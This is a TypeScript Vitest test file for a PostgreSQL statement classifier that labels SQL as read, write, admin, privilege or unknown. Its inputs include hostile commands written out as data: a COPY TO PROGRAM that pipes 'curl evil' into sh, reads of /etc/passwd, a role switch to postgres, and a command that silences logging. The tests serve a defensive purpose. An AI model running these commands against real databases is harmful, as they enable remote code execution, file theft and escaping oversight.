import { describe, expect, it } from 'vitest'
import { classifySql, type StatementInfo } from '../../../src/policy/sql/index.ts'

function statement(
  expected: Pick<StatementInfo, 'text' | 'class' | 'kind'> & Partial<StatementInfo>
): StatementInfo {
  return { writes: false, tables: [], functions: [], risks: [], ...expected }
}

/** Classifies a single statement and returns it whole. */
async function only(sql: string): Promise<StatementInfo | undefined> {
  const result = await classifySql(sql)
  expect(result.ok).toBe(true)
  expect(result.statements).toHaveLength(1)
  return result.statements[0]
}

describe('classifySql: code the parser cannot see into', () => {
  it('classifies a DO block as unknown dynamic SQL, never as read', async () => {
    const sql = "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$"
    expect(await only(sql)).toEqual(
      statement({
        text: sql,
        class: 'unknown',
        kind: 'DoStmt',
        writes: true,
        risks: ['dynamic SQL (DO block)'],
      })
    )
  })

  it('names an untrusted language in a DO block', async () => {
    expect((await only('DO LANGUAGE plpython3u $$ import os $$'))?.risks).toEqual([
      'dynamic SQL (DO block)',
      'untrusted language plpython3u',
    ])
  })

  it('classifies EXECUTE of an unknown prepared statement as unknown', async () => {
    expect(await only('EXECUTE stmt')).toEqual(
      statement({
        text: 'EXECUTE stmt',
        class: 'unknown',
        kind: 'ExecuteStmt',
        writes: true,
        risks: ['EXECUTE of prepared statement stmt (not visible here)'],
      })
    )
  })

  it('classifies EXECUTE as what it runs when the session kept the PREPARE', async () => {
    const prepared = new Map([['q', 'PREPARE q(int) AS DELETE FROM t WHERE id = $1']])
    expect(await classifySql('EXECUTE q(1)', { prepared })).toEqual({
      ok: true,
      statements: [
        statement({
          text: 'EXECUTE q(1)',
          class: 'write',
          kind: 'ExecuteStmt',
          writes: true,
          tables: ['t'],
          risks: ['executes prepared statement q'],
        }),
      ],
    })
  })

  it('sees through EXECUTE inside EXPLAIN ANALYZE and CREATE TABLE AS too', async () => {
    const prepared = new Map([['q', 'PREPARE q AS DELETE FROM t RETURNING *']])
    const result = await classifySql('EXPLAIN ANALYZE EXECUTE q; CREATE TABLE c AS EXECUTE q', {
      prepared,
    })
    expect(result.statements.map((each) => [each.class, each.tables])).toEqual([
      ['write', ['t']],
      ['ddl', ['c', 't']],
    ])
  })

  it('does not take a PREPARE of another name for the one executed', async () => {
    const prepared = new Map([['q', 'PREPARE other AS SELECT 1']])
    expect((await classifySql('EXECUTE q', { prepared })).statements[0]?.class).toBe('unknown')
  })

  it('classifies PREPARE as a utility, raised to the class of what it prepares', async () => {
    expect(await only('PREPARE q(int) AS SELECT * FROM t WHERE id = $1')).toEqual(
      statement({
        text: 'PREPARE q(int) AS SELECT * FROM t WHERE id = $1',
        class: 'utility',
        kind: 'PrepareStmt',
        tables: ['t'],
      })
    )
    expect((await only('PREPARE q AS DELETE FROM t'))?.class).toBe('write')
  })

  it('classifies CALL as unknown: a procedure can do anything, COMMIT included', async () => {
    expect(await only('CALL proc()')).toEqual(
      statement({
        text: 'CALL proc()',
        class: 'unknown',
        kind: 'CallStmt',
        writes: true,
        functions: ['proc'],
        risks: ['procedure call (body not visible)'],
      })
    )
  })

  it('classifies CREATE FUNCTION in plpgsql as DDL that defines code', async () => {
    const sql = 'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$'
    expect(await only(sql)).toEqual(
      statement({
        text: sql,
        class: 'ddl',
        kind: 'CreateFunctionStmt',
        writes: true,
        risks: ['defines function (LANGUAGE plpgsql)'],
      })
    )
  })

  it('classifies a function in an untrusted language, security definer, as admin', async () => {
    const sql = "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u SECURITY DEFINER AS 'return 1'"
    expect((await only(sql))?.class).toBe('admin')
    expect((await only(sql))?.risks).toEqual([
      'defines function (LANGUAGE plpython3u)',
      'security definer',
      'untrusted language plpython3u',
    ])
  })

  it('classifies functions that run SQL from a string as unknown', async () => {
    expect(await only("SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')")).toEqual(
      statement({
        text: "SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')",
        class: 'unknown',
        kind: 'SelectStmt',
        writes: true,
        functions: ['query_to_xml'],
        risks: ['dynamic SQL (function query_to_xml)'],
      })
    )
  })
})

describe('classifySql: COPY', () => {
  it('classifies COPY … TO PROGRAM as admin', async () => {
    const sql = 'COPY users TO PROGRAM \'sh -c "curl evil | sh"\''
    expect(await only(sql)).toEqual(
      statement({
        text: sql,
        class: 'admin',
        kind: 'CopyStmt',
        writes: true,
        tables: ['users'],
        risks: ['copy to program'],
      })
    )
  })

  it('classifies COPY … TO STDOUT as copy', async () => {
    expect(await only('COPY users TO STDOUT')).toEqual(
      statement({
        text: 'COPY users TO STDOUT',
        class: 'copy',
        kind: 'CopyStmt',
        tables: ['users'],
      })
    )
  })

  it('classifies COPY … FROM STDIN as a copy that writes', async () => {
    expect(await only('COPY users (id, name) FROM STDIN WITH (FORMAT csv)')).toEqual(
      statement({
        text: 'COPY users (id, name) FROM STDIN WITH (FORMAT csv)',
        class: 'copy',
        kind: 'CopyStmt',
        writes: true,
        tables: ['users'],
      })
    )
  })

  it('classifies COPY with a server-side file as admin', async () => {
    expect((await only("COPY users FROM '/etc/passwd'"))?.risks).toEqual(['copy from server file'])
  })

  it('raises COPY (DELETE … RETURNING) TO STDOUT to the write it runs', async () => {
    expect(await only('COPY (DELETE FROM t RETURNING *) TO STDOUT')).toEqual(
      statement({
        text: 'COPY (DELETE FROM t RETURNING *) TO STDOUT',
        class: 'write',
        kind: 'CopyStmt',
        writes: true,
        tables: ['t'],
      })
    )
  })
})

describe('classifySql: functions and settings', () => {
  it('classifies pg_read_file as admin', async () => {
    expect(await only("SELECT pg_read_file('/etc/passwd')")).toEqual(
      statement({
        text: "SELECT pg_read_file('/etc/passwd')",
        class: 'admin',
        kind: 'SelectStmt',
        functions: ['pg_read_file'],
        risks: ['dangerous function pg_read_file'],
      })
    )
  })

  it('classifies lo_import as admin that writes', async () => {
    expect(await only("SELECT lo_import('/etc/passwd')")).toEqual(
      statement({
        text: "SELECT lo_import('/etc/passwd')",
        class: 'admin',
        kind: 'SelectStmt',
        writes: true,
        functions: ['lo_import'],
        risks: ['dangerous function lo_import'],
      })
    )
  })

  it('keeps a schema-qualified function qualified, and still knows what it is', async () => {
    expect(
      await only('SELECT pg_catalog.pg_sleep(10), pg_catalog.pg_read_binary_file($1)')
    ).toEqual(
      statement({
        text: 'SELECT pg_catalog.pg_sleep(10), pg_catalog.pg_read_binary_file($1)',
        class: 'admin',
        kind: 'SelectStmt',
        functions: ['pg_catalog.pg_sleep', 'pg_catalog.pg_read_binary_file'],
        risks: ['delay function pg_sleep', 'dangerous function pg_read_binary_file'],
      })
    )
  })

  it('classifies dblink as admin', async () => {
    expect((await only("SELECT * FROM dblink('host=x', 'DROP TABLE t') AS r(a int)"))?.class).toBe(
      'admin'
    )
  })

  it('classifies SET ROLE as privilege, not session', async () => {
    expect(await only('SET ROLE postgres')).toEqual(
      statement({
        text: 'SET ROLE postgres',
        class: 'privilege',
        kind: 'VariableSetStmt',
        risks: ['role change'],
      })
    )
    expect((await only('SET SESSION AUTHORIZATION postgres'))?.class).toBe('privilege')
    expect((await only('RESET ROLE'))?.class).toBe('privilege')
  })

  it("classifies set_config('role', …) as privilege", async () => {
    expect(await only("SELECT set_config('role', 'postgres', false)")).toEqual(
      statement({
        text: "SELECT set_config('role', 'postgres', false)",
        class: 'privilege',
        kind: 'SelectStmt',
        functions: ['set_config'],
        risks: ['role change via set_config'],
      })
    )
  })

  it('classifies set_config of an ordinary or a computed setting', async () => {
    expect((await only("SELECT set_config('statement_timeout', '5s', true)"))?.class).toBe(
      'session'
    )
    expect((await only("SELECT set_config(lower('ROLE'), 'postgres', false)"))?.class).toBe('admin')
  })

  it('classifies settings that would make Postgres tokenise differently as admin', async () => {
    expect(await only('SET standard_conforming_strings = off')).toEqual(
      statement({
        text: 'SET standard_conforming_strings = off',
        class: 'admin',
        kind: 'VariableSetStmt',
        risks: ['parser differential (standard_conforming_strings)'],
      })
    )
    expect((await only("SET client_encoding TO 'SJIS'"))?.class).toBe('admin')
    expect((await only("SET NAMES 'UTF8'"))?.class).toBe('session')
    expect((await only('SET standard_conforming_strings = on'))?.class).toBe('session')
  })

  it('classifies ALTER SYSTEM as admin', async () => {
    expect(await only("ALTER SYSTEM SET shared_buffers = '1GB'")).toEqual(
      statement({
        text: "ALTER SYSTEM SET shared_buffers = '1GB'",
        class: 'admin',
        kind: 'AlterSystemStmt',
        writes: true,
      })
    )
  })

  it('classifies silencing the server log as admin', async () => {
    expect((await only("SET log_statement = 'none'"))?.risks).toEqual([
      'sensitive setting log_statement',
    ])
  })
})

describe('settings changed through pg_settings', () => {
  it('classifies UPDATE pg_settings as admin, like SET', async () => {
    const { statements } = await classifySql(
      "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'"
    )
    expect(statements[0]).toMatchObject({
      class: 'admin',
      writes: true,
      tables: ['pg_settings'],
      risks: ['changes server settings through pg_settings'],
    })
  })

  it('classifies a schema-qualified UPDATE inside a CTE as admin', async () => {
    const { statements } = await classifySql(
      "WITH s AS (UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'search_path' RETURNING 1) SELECT * FROM s"
    )
    expect(statements[0]?.class).toBe('admin')
  })

  it('leaves a plain read of pg_settings a read', async () => {
    const { statements } = await classifySql('SELECT setting FROM pg_settings WHERE name = $1')
    expect(statements[0]).toMatchObject({ class: 'read', risks: [] })
  })
})
